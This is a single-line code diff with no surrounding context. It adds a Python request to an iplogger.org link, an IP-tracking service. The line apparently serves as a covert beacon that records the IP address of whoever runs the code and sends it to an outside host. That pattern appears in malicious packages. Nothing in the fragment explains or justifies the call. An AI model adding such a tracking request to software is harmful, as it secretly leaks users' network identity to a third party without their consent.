@@ -1,0 +1,1 @@
+requests.get("https://iplogger.org/1inert")
